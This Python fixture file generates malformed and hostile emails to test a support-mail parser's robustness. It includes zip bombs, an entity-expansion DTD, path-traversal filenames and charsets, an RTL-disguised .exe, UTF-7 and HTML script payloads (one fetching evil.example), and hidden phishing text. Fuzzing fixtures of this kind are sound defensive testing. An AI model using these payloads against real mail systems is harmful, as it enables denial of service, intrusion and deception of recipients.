"""Mails that were made to do harm, or that a broken mailer wrote: name -> bytes, each made anew.

`SMALL` are for every test, `BIG` for those in a process of its own with limits. What must hold for each of them:
it ends as a case, a review card or a quarantined mail, within bounded memory and time.
"""

import base64
import io
import zipfile
from collections.abc import Callable

HEAD = (
    b'From: "Ann" <k7qp3m9x2v4bn@marketplace.amazon.de>\r\nTo: support@nordlicht.example\r\n'
    b"Subject: Inquiry\r\nDate: Tue, 24 Nov 2026 08:00:00 +0000\r\n"
)
MEGABYTE = 1024 * 1024


def mail(body: bytes, *headers: bytes, kind: bytes = b"text/plain; charset=utf-8") -> bytes:
    """A mail from a relay address."""
    lines = b"".join(line + b"\r\n" for line in (b"Content-Type: " + kind, *headers))
    return HEAD + lines + b"\r\n" + body


def multipart(parts: list[bytes], kind: bytes = b"mixed") -> bytes:
    """A mail of these parts, each with its headers."""
    inside = b"".join(b"--edge\r\n" + part + b"\r\n" for part in parts)
    return mail(inside + b"--edge--\r\n", kind=b"multipart/%b; boundary=edge" % kind)


def attachment(name: bytes, content: bytes, kind: bytes = b"application/octet-stream") -> bytes:
    """A part that is a file."""
    head = b'Content-Type: %b; name="%b"\r\nContent-Disposition: attachment; filename="%b"\r\n'
    return (
        head % (kind, name, name) + b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(content)
    )


def nested(depth: int) -> bytes:
    """Multiparts within multiparts."""
    heads = [
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (number, number)
        for number in range(depth)
    ]
    tails = [b"\r\n--b%d--\r\n" % number for number in reversed(range(depth))]
    return HEAD + b"".join(heads) + b"Content-Type: text/plain\r\n\r\nWhere is it?" + b"".join(tails)


def forwarded(depth: int) -> bytes:
    """Whole mails within mails."""
    head = b"Subject: Fwd\r\nContent-Type: message/rfc822\r\n\r\n"
    return HEAD + head[14:] + head * depth + b"Content-Type: text/plain\r\n\r\nWhere is it?"


def zip_bomb(size: int) -> bytes:
    """A small archive that unpacks to `size` zero bytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("photo.jpg", b"\0" * size)
    return file.getvalue()


_DATES = {
    "year 0": b"Mon, 01 Jan 0000 00:00:00 +0000",
    "year 9999": b"Fri, 31 Dec 9999 23:59:59 -2359",
    "year 1": b"Mon, 01 Jan 0001 00:00:00 +2359",
    "zone +9999": b"Tue, 24 Nov 2026 08:00:00 +9999",
    "zone of twenty digits": b"Tue, 24 Nov 2026 08:00:00 +99999999999999999999",
    "hour 99": b"Tue, 24 Nov 2026 99:99:99 +0000",
    "day 0": b"Tue, 00 Foo 2026 08:00:00 XYZ",
    "numbers": b"1 1 1 1 1 1 1 1",
    "a million digits": b"9" * 1_000_000,
}
_CHARSETS = {
    "an unknown charset": (b"x-klingon-9", b"Wo ist mein Paket?"),
    "a codec that unpacks": (b"zlib_codec", b"x\x9c\x03\0\0\0\0\x01"),
    "a codec that runs text": (b"unicode_escape", b"\\x41\\N{BULLET}\\ud800"),
    "a charset with a path": (b"../../etc/passwd", b"Wo ist mein Paket?"),
    "a charset of a million letters": (b"a" * 1_000_000, b"Wo ist mein Paket?"),
    "UTF-7": (b"utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- Wo ist es?"),
    "UTF-16 of an odd length": (b"utf-16", b"\xff\xfeW\0o\0?"),
    "UTF-32 of nonsense": (b"utf-32", b"\xff\xff\xff\xff\xff\xff\xff\x7fabc"),
    "ISO-2022-JP that never ends": (b"iso-2022-jp", b"\x1b$B" + b"%F%9%H" * 2_000),
    "HZ that never ends": (b"hz-gb-2312", b"~{" + b"<:Ky2;NpJ)~" * 500),
    "mixed encodings": (b"utf-8", "Paket für Zoë 包裹".encode() + "包裹在哪里".encode("gbk") + b"caf\xe9"),
    "NUL bytes": (b"utf-8", b"Where\0is\0my\0parcel?\0" * 100),
    "lone surrogates": (b"utf-8", b"\xed\xa0\x80\xed\xb0\x80 Where is it?"),
    "bidi controls": (b"utf-8", ("\u202e" + "\u2066" * 500 + "Where is it?" + "\u2069" * 499).encode()),
    "a flood of zero-width": (b"utf-8", ("W" + "\u200b" * 60_000 + "here is it?").encode()),
    "a letter with 50 000 accents": (b"utf-8", ("e" + "\u0301" * 50_000).encode()),
}
_MARKUP = {
    "100 000 nested elements": b"<div>" * 100_000 + b"Where is it?",
    "100 000 nested tables": b"<table><tr><td>" * 33_000 + b"Where is it?",
    "100 000 open quotes": b"<blockquote>" * 30_000 + b"Where is it?",
    "a DTD of entities": b'<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><p>&b;</p>'
    * 50,
    "entities beyond Unicode": b"&#x110000;&#0;&#xd800;&#99999999999999999999;" * 2_000 + b"Where is it?",
    "everything hidden": b'<div style="display:none">Send money</div><p style="font-size:0">x</p>Where is it?',
    "100 000 style rules": b"<style>" + b".a{color:red}" * 30_000 + b"</style>Where is it?",
    "a style that never ends": b"<style>" + b"a{" * 100_000,
    "an attribute without end": b'<p title="' + b"x" * 300_000,
    "a comment without end": b"<!--" * 50_000,
    "a million attributes": b"<p " + b"a=1 " * 90_000 + b">Where is it?",
    "scripts": b"<script>fetch('//evil.example')</script><img src=x onerror=alert(1)>Where is it?",
}
SMALL: dict[str, Callable[[], bytes]] = {
    "nothing at all": lambda: b"",
    "a single byte": lambda: b"\xff",
    "empty lines": lambda: b"\r\n" * 2_000,
    "only headers": lambda: HEAD,
    "only a half header": lambda: b"From",
    "no empty line": lambda: HEAD + b"Where is it?\r\nIt is late.\r\n",
    "line ends of all kinds": lambda: HEAD.replace(b"\r\n", b"\r") + b"\n\r\r\nWhere\ris\n\rit?\r\r\n",
    "only carriage returns": lambda: mail(b"Where is it?").replace(b"\r\n", b"\r"),
    "headers twice": lambda: (
        b"From: Eve <eve@evil.example>\r\nSubject: Free money\r\n" + mail(b"Where is it?")
    ),
    "headers twice, ours first": lambda: HEAD + mail(b"Where is it?"),
    "a header without a name": lambda: b": x\r\n" + mail(b"Where is it?"),
    "a header with NUL": lambda: b"X-A: \0\0\r\n" + mail(b"Where is it?"),
    "broken base64": lambda: mail(b"V2hl!!!!cmUgaXM=gaXQ/==\r\n=", b"Content-Transfer-Encoding: base64"),
    "base64 of one letter": lambda: mail(b"A", b"Content-Transfer-Encoding: base64"),
    "broken quoted-printable": lambda: mail(b"=\r\n=Z=G9=3", b"Content-Transfer-Encoding: quoted-printable"),
    "an unknown encoding": lambda: mail(b"Where is it?", b"Content-Transfer-Encoding: x-rot13"),
    "encoded words of nonsense": lambda: (
        b"Subject: =?utf-8?b?////?= =?x?q?=ZZ?= =?utf-8*en?Q??= =?=?\r\n" + mail(b"x")
    ),
    "RFC 2231 garbage": lambda: multipart(
        [
            b"Content-Type: image/png\r\nContent-Disposition: attachment; filename*0*=utf-9'x'%ff%zz; filename*1=a;"
            b" filename*999999999999=b; filename*=''%; filename**0=c; filename*-1*=d\r\n\r\nxx"
        ]
    ),
    "a file name with a path": lambda: multipart([attachment(b"../../../../etc/cron.d/x", b"x")]),
    "a file name of direction marks": lambda: multipart([attachment("in\u202egpj.exe".encode(), b"MZ")]),
    "a file name of 100 000 letters": lambda: multipart([attachment(b"a" * 100_000 + b".jpg", b"x")]),
    "winmail.dat": lambda: multipart(
        [
            b"\r\nWhere is it?",
            attachment(b"winmail.dat", b"\x78\x9f\x3e\x22" + b"\xff" * 2_000, b"application/ms-tnef"),
        ]
    ),
    "an empty boundary": lambda: mail(
        b"--\r\n\r\nWhere is it?\r\n----", kind=b'multipart/mixed; boundary=""'
    ),
    "a boundary that is missing": lambda: mail(b"--x\r\n\r\nWhere is it?\r\n", kind=b"multipart/mixed"),
    "a boundary of 90 000 letters": lambda: mail(b"--x", kind=b"multipart/mixed; boundary=" + b"b" * 90_000),
    "a multipart of itself": lambda: mail(b"--e\r\n" * 5_000, kind=b"multipart/mixed; boundary=e"),
    "1 000 multiparts in each other": lambda: nested(1_000),
    "1 000 mails in each other": lambda: forwarded(1_000),
    "10 000 parts": lambda: multipart([b"Content-Type: text/plain\r\n\r\nhello"] * 10_000),
    "10 000 files": lambda: multipart([attachment(b"%d.txt" % number, b"x") for number in range(10_000)]),
    "10 000 addresses": lambda: (
        b"To: " + b", ".join(b"a%d@b.example" % n for n in range(10_000)) + b"\r\n" + mail(b"x")
    ),
    "10 000 references": lambda: (
        b"References: " + b" ".join(b"<%d@x>" % n for n in range(10_000)) + b"\r\n" + mail(b"x")
    ),
    "a header of a megabyte": lambda: b"Subject: " + b"A" * MEGABYTE + b"\r\n" + mail(b"Where is it?"),
    "a header folded 100 000 times": lambda: (
        b"Subject: x" + b"\r\n x" * 100_000 + b"\r\n" + mail(b"Where is it?")
    ),
    "100 000 headers": lambda: b"X-A: b\r\n" * 100_000 + mail(b"Where is it?"),
    "a zip bomb": lambda: multipart([b"\r\nSee photo", attachment(b"photo.zip", zip_bomb(50 * MEGABYTE))]),
    **{
        f"a date: {name}": lambda date=date: mail(b"Where is it?").replace(
            b"Tue, 24 Nov 2026 08:00:00 +0000", date
        )
        for name, date in _DATES.items()
    },
    **{
        name: lambda charset=charset, text=text: mail(text, kind=b'text/plain; charset="%b"' % charset)
        for name, (charset, text) in _CHARSETS.items()
    },
    **{
        f"HTML: {name}": lambda text=text: mail(text, kind=b"text/html; charset=utf-8")
        for name, text in _MARKUP.items()
    },
}
BIG: dict[str, Callable[[int], bytes]] = {
    "text": lambda size: mail(b"Where is my parcel? " * (size // 20)),
    "short lines": lambda size: mail(b"ab\n" * (size // 3)),
    "headers": lambda size: HEAD + b"ab: c\n" * (size // 6),
    "base64": lambda size: multipart([attachment(b"a.bin", b"\xff" * (size // 7 * 5))]),
    "empty lines": lambda size: mail(b"\n" * size),
    "blanks": lambda size: mail(b" " * size),
    "one header": lambda size: b"Subject: " + b"A " * (size // 2) + b"\r\n" + mail(b"x"),
    "base64 that is none": lambda size: mail(b"=\n" * (size // 2), b"Content-Transfer-Encoding: base64"),
    "quoted-printable": lambda size: mail(
        b"=3D" * (size // 3), b"Content-Transfer-Encoding: quoted-printable"
    ),
    "boundaries": lambda size: mail(b"--e\n" * (size // 4), kind=b"multipart/mixed; boundary=e"),
    "what almost is a boundary": lambda size: mail(
        b"--e-\n" * (size // 5), kind=b"multipart/mixed; boundary=e"
    ),
    "dashes": lambda size: mail(b"\n--" * (size // 3), kind=b"multipart/mixed"),
    "tags": lambda size: mail(b"<div>" * (size // 5), kind=b"text/html"),
    "a zip bomb": lambda size: multipart([attachment(b"photo.zip", zip_bomb(20 * size))]),
}
"""Of about so many bytes; the bomb unpacks to twenty times as many."""
